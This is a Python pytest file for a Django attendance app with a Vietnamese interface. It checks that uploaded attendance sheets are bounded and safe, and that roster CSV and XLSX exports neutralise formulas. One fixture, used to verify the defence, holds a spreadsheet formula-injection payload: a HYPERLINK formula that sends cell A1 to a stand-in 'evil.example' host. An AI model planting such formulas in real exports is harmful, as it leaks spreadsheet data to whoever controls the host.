"""The filled-sheet upload is bounded and safe (issue 15, items 6, 7, 8, 13): a row cap, no
members created one INSERT at a time, bounded error pages, no 500 for NUL or UTF-16, and the
roster export neutralises formulas."""

import codecs
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from courses.attendance import sheets
from courses.attendance.models import Attendance
from teams.models import Member
from tests.factories.teams import MemberFactory

pytestmark = pytest.mark.django_db

HEADER = ["STT", "Mã dòng", "Họ và tên", "Số điện thoại", "Tổ", "Trạng thái", "Ghi chú"]


def _post(client, session, name, body):
    return client.post(
        reverse("attendance:sheet_upload", args=[session.pk]),
        {"file": SimpleUploadedFile(name, body)},
    )


def _csv(lines):
    return ("\n".join(lines) + "\n").encode("utf-8")


def test_unknown_phones_are_refused_not_created(client, session, roster, trainer):
    client.force_login(trainer)
    lines = ["Họ và tên,Số điện thoại,Trạng thái"]
    lines += [f"Người Mới {i},09{i:08d},Có mặt" for i in range(150)]
    response = _post(client, session, "p.csv", _csv(lines))
    assert response.status_code == 200
    assert "Nhập danh sách thành viên" in response.content.decode()
    assert not Member.objects.filter(full_name__startswith="Người Mới").exists()
    assert session.attendances.count() == 3


def test_row_cap_is_the_roster_plus_walk_ins(client, session, roster, trainer):
    client.force_login(trainer)
    cap = len(roster) + sheets.SHEET_EXTRA_ROWS
    lines = ["Số điện thoại,Trạng thái"] + [f"09{i:08d},có lẽ" for i in range(cap + 1)]
    response = _post(client, session, "p.csv", _csv(lines))
    assert response.status_code == 200
    page = response.content.decode()
    assert "Tệp có quá nhiều dòng" in page
    assert f"tối đa {cap} dòng" in page


def test_huge_bad_file_gives_a_bounded_page(client, session, trainer):
    members = Member.objects.bulk_create(
        Member(full_name=f"Người {i}", phone=f"01009{i:05d}", ward=session.organiser_ward)
        for i in range(1000)
    )
    Attendance.objects.bulk_create(Attendance(session=session, member=m) for m in members)
    client.force_login(trainer)
    ids = list(session.attendances.values_list("pk", flat=True))
    junk = "x" * 900  # under the reader's per-cell bound
    lines = ["Mã dòng,Trạng thái"] + [f"{pk},{junk}" for pk in ids]
    response = _post(client, session, "p.csv", _csv(lines))
    assert response.status_code == 200
    page = response.content.decode()
    assert len(page) < 60_000, len(page)
    assert response.context["errors_total"] == 1000, response.context["errors"][:3]
    assert page.count("không hợp lệ; dùng Có mặt") == 50
    assert "950 lỗi khác (1000 lỗi)" in page
    assert not Attendance.objects.exclude(status="").exists()


def test_nul_byte_past_64_kb_is_refused_without_500(client, session, roster, trainer):
    """Run on PostgreSQL too (DATABASE_URL=postgres://...), where a stored NUL was a 500."""
    client.force_login(trainer)
    filler = ",,\n" * 30_000  # 90 KB of blank lines before the NUL
    body = (
        "Số điện thoại,Trạng thái,Ghi chú\n" + filler + f"{roster[0].phone},Có mặt,A\x00B\n"
    ).encode()
    response = _post(client, session, "p.csv", body)
    assert response.status_code == 200
    assert "Chưa lưu gì" in response.content.decode()
    assert not Attendance.objects.exclude(status="").exists()


@pytest.mark.parametrize("bom", [True, False])
def test_utf16_sheet_is_answered_not_500(client, session, roster, trainer, bom):
    client.force_login(trainer)
    text = "Số điện thoại\tTrạng thái\n" + f"{roster[0].phone}\tCó mặt\n"
    body = (codecs.BOM_UTF16_LE if bom else b"") + text.encode("utf-16-le")
    client.raise_request_exception = True
    response = _post(client, session, "p.csv", body)
    assert response.status_code in (200, 302)
    if response.status_code == 200:
        assert "Chưa lưu gì" in response.content.decode()
        assert not Attendance.objects.exclude(status="").exists()
    else:
        assert session.attendances.get(member=roster[0]).status == "present"


def test_reader_warnings_are_shown(client, session, roster, trainer, monkeypatch):
    """The shared reader's ``warnings`` (a legacy font converted, say) reach the user."""
    from courses.attendance import sheets as sheets_module

    real = sheets_module.read_rows

    class WithWarnings:
        def __init__(self, rows):
            self.rows, self.warnings = rows, []

        def __iter__(self):
            yield from self.rows
            self.warnings.append("Cột “Ghi chú” viết bằng phông TCVN3: đã chuyển sang Unicode.")

    monkeypatch.setattr(sheets_module, "read_rows", lambda upload: WithWarnings(real(upload)))
    client.force_login(trainer)
    body = _csv(["Số điện thoại,Trạng thái", f"{roster[0].phone},Có mặt"])
    response = _post(client, session, "p.csv", body)
    assert response.status_code == 302
    page = client.get(response["Location"]).content.decode()
    assert "phông TCVN3" in page
    body = _csv(["Số điện thoại,Trạng thái", f"{roster[0].phone},có lẽ"])
    page = _post(client, session, "p.csv", body).content.decode()
    assert "phông TCVN3" in page and "Chưa lưu gì" in page


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'


def _formula_roster(session, team):
    from courses.attendance.services import session_roster_build
    from tests.factories.teams import MembershipFactory

    MembershipFactory(team=team, member__full_name=FORMULA)
    session.target_teams.add(team)
    session_roster_build(session=session)


def test_roster_csv_and_xlsx_neutralise_formulas(client, session, team, ward_officer):
    from openpyxl import load_workbook

    _formula_roster(session, team)
    client.force_login(ward_officer)
    csv_text = client.get(
        reverse("attendance:roster_export", args=[session.pk, "csv"])
    ).content.decode("utf-8-sig")
    assert "'=HYPERLINK(" in csv_text
    assert ",=HYPERLINK(" not in csv_text and '"=HYPERLINK(' not in csv_text
    xlsx = client.get(reverse("attendance:roster_export", args=[session.pk, "xlsx"])).content
    sheet = load_workbook(io.BytesIO(xlsx)).active
    names = [row[2].value for row in sheet.iter_rows(min_row=2)]
    assert names == ["'" + FORMULA]
    assert sheet.cell(row=2, column=3).data_type == "s"  # text, not a formula
    assert str(sheet.page_setup.paperSize) == sheet.PAPERSIZE_A4


def test_a_neutralised_note_reads_back_as_typed(client, session, roster, trainer):
    client.force_login(trainer)
    row = session.attendances.get(member=roster[0])
    body = _csv(["Mã dòng,Trạng thái,Ghi chú", f"{row.pk},Có mặt,'-đến muộn 5 phút"])
    assert _post(client, session, "p.csv", body).status_code == 302
    row.refresh_from_db()
    assert row.note == "-đến muộn 5 phút"


def test_registered_member_of_the_area_still_added(client, session, roster, trainer):
    neighbour = MemberFactory(phone="0966555444", ward=session.organiser_ward)
    client.force_login(trainer)
    body = _csv(["Số điện thoại,Trạng thái", f"{neighbour.phone},Có mặt"])
    assert _post(client, session, "p.csv", body).status_code == 302
    assert session.attendances.get(member=neighbour).status == "present"
